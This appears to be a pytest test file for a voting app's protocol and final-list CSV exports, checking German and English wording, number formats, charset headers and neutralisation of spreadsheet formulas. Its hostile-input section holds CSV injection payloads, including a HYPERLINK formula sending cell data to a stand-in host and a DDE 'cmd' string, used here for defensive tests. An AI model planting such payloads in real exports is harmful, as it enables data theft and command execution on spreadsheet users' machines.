"""The protocol CSV and the final lists for spreadsheets: bounds as numbers (never "2/1",
which German Excel reads as a date), every word in the file's language (German by default,
English on request) and the same words in both files; the JSON keeps codes and exact
fractions; downloads say their charset once."""

from __future__ import annotations

import csv
import io
import json

import pytest

from app.extensions import db
from app.models import SignedProtocol
from app.services.polls import paper
from app.services.polls.lifecycle import open_poll
from app.services.protocol import build as protocol
from app.services.protocol.csv_export import HEADER, HEADER_EN, render_protocol_csv
from tests.app.protocol.factories import count_paper_election, login, make_paper_election
from tests.app.vote.factories import make_poll

CODES = ("elected", "not_elected", "general", "pending", "accepted", "declined", "rejected")


def make_scene():
    """A counted paper election (Anna 4, Bodo 3, Cem 1 of 5; 2 seats, more than half of
    Ja+Nein) and a two-thirds motion counted on paper (7 Ja, 3 Nein: needs 20/3)."""
    conference, election, poll = make_paper_election()
    count_paper_election(poll)
    motion = open_poll(make_poll(conference, {
        "kind": "motion", "title": "Antrag S1: Satzung",
        "rules": {"preset": "motion-two-thirds", "overrides": {}}}, paper=True).id)
    paper.enter_paper_totals(motion.id, paper.PaperEntry(
        issued=5, cast=5, invalid=0, counts={"motion": {"Y": 4, "N": 1, "A": 0}}))
    return conference, election


def rows(text: str) -> list[dict[str, str]]:
    """The per-candidate rows of the protocol CSV (after the title line, before the lists)."""
    lines = text.lstrip("\ufeff").split("\r\n")
    block = lines[1:lines.index("")]
    return list(csv.DictReader(io.StringIO("\n".join(block)), delimiter=";"))


def by_name(text: str) -> dict[str, dict[str, str]]:
    return {row.get("Kandidatur") or row["Candidate"]: row for row in rows(text)}


def test_german_csv_numbers_and_words(app):
    conference, _election = make_scene()

    text = render_protocol_csv(protocol.build_protocol(conference.id))

    table = by_name(text)
    assert text.split("\r\n")[1] == ";".join(HEADER)
    assert [(r["Nötig"], r["Grenze"]) for r in table.values()] == [
        ("mehr als", "2"), ("mehr als", "1,5"), ("mehr als", "0,5"), ("mindestens", "3,333333")]
    anna, cem, motion = table["Anna Ärger"], table["Cem Çelik"], table["Antrag S1: Satzung"]
    assert (anna["Art"], anna["Ergebnis"], anna["Sitz"], anna["Erreicht"]) == (
        "Wahlgang", "gewählt", "Sitz 1", "ja")
    assert cem["Ergebnis"] == "nicht gewählt"
    assert (motion["Art"], motion["Wahlgang"], motion["Ergebnis"]) == (
        "Antrag", "", "angenommen")
    lists = text.split("\r\n\r\n")[1]
    assert "Vorstand;gewählt;1;Anna Ärger;;Sitz 1;Antwort ausstehend;;" in lists
    for code in CODES:
        assert f";{code};" not in text and not text.endswith(f";{code}\r\n")


def test_english_csv_numbers_and_words(app):
    conference, _election = make_scene()

    text = render_protocol_csv(protocol.build_protocol(conference.id, lang="en"))

    table = by_name(text)
    assert text.split("\r\n")[1] == ";".join(HEADER_EN)
    assert [(r["Needed"], r["Bound"]) for r in table.values()] == [
        ("more than", "2"), ("more than", "1.5"), ("more than", "0.5"), ("at least", "3.333333")]
    assert (table["Anna Ärger"]["Kind"], table["Anna Ärger"]["Outcome"]) == ("round", "elected")
    assert "Vorstand;elected;1;Anna Ärger;;seat 1;answer pending;;" in text


def test_the_json_keeps_codes_and_exact_fractions(app):
    conference, _election = make_scene()

    data = protocol.build_protocol(conference.id)

    election, motion = data["items"]
    counts = election["rounds"][0]["counts"]
    assert [c["needed"] for c in counts] == ["2/1", "3/2", "1/2"]
    assert [c["outcome"] for c in counts] == ["elected", "elected", "not_elected"]
    assert motion["counts"][0]["needed"] == "10/3"
    assert election["result"]["elected"][0]["acceptance"] == "pending"


@pytest.mark.parametrize("lang", ["de", "en"])
def test_final_lists_use_the_protocols_words(app, client, lang):
    conference, election = make_scene()
    login(client)
    if lang == "en":
        client.get("/language/en")

    text = client.get(f"/protocol/elections/{election.id}/lists.csv").get_data(as_text=True)

    answer = {"de": "Antwort ausstehend", "en": "answer pending"}[lang]  # "offen" is a group
    assert text.split("\r\n")[1].split(";")[7] == answer


def test_downloads_name_their_charset_once(app, client):
    conference, election = make_scene()
    login(client)
    client.post("/protocol/sign", data={"election_id": "", "lang": "de"})
    row = db.session.scalar(db.select(SignedProtocol))

    for path in (f"/protocol/{row.id}/csv", f"/protocol/elections/{election.id}/lists.csv"):
        response = client.get(path)
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", path
    signed = client.get(f"/protocol/{row.id}/json")
    assert json.loads(signed.data)["items"][1]["counts"][0]["needed"] == "10/3"


HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)",
           "+1+cmd|' /C calc'!A0")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
            for cell in row]


def _assert_no_formula(text: str) -> None:
    formulas = [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not c.lstrip("+-").replace(",", "").replace(".", "").isdigit()]
    assert formulas == []


def make_hostile_scene():
    """Names, a group and titles as an attacker would type them on a nomination form."""
    conference, election, poll = make_paper_election(
        title="-2+3+cmd|' /C calc'!A0", names=HOSTILE, group="\t=1+1")
    count_paper_election(poll)
    motion = open_poll(make_poll(conference, {
        "kind": "motion", "title": "=1+1", "rules": {"preset": "motion-simple",
                                                        "overrides": {}}}, paper=True).id)
    paper.enter_paper_totals(motion.id, paper.PaperEntry(
        issued=5, cast=5, invalid=0, counts={"motion": {"Y": 4, "N": 1, "A": 0}}))
    return conference, election


def test_protocol_csv_neutralises_formulas_and_keeps_numbers(app):
    conference, _election = make_hostile_scene()

    text = render_protocol_csv(protocol.build_protocol(conference.id))

    _assert_no_formula(text)
    names = {row["Kandidatur"] for row in rows(text)}
    assert {"'" + name for name in HOSTILE} <= names  # shown as typed, behind an apostrophe
    assert "'=1+1" in names
    assert {row["Gruppe"] for row in rows(text) if row["Wahlgang"]} == {"'\t=1+1"}
    assert [row["Ja"] for row in rows(text)] == ["4", "3", "1", "4"]  # numbers stay numbers


def test_final_lists_csv_neutralises_formulas(app, client):
    _conference, election = make_hostile_scene()
    login(client)

    text = client.get(f"/protocol/elections/{election.id}/lists.csv").get_data(as_text=True)

    _assert_no_formula(text)
    assert "'" + HOSTILE[0] in _cells(text)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+49 30 1234", "'+49 30 1234"), ("-", "'-"), ("@x", "'@x"),
    ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("-3", "-3"), ("1,5", "1,5"), ("+2", "+2"),
    (-3, -3), ("Anna", "Anna"), ("", "")])
def test_neutralise_cell(cell, written):
    from app.services.protocol.spreadsheet import neutralise

    assert neutralise(cell) == written
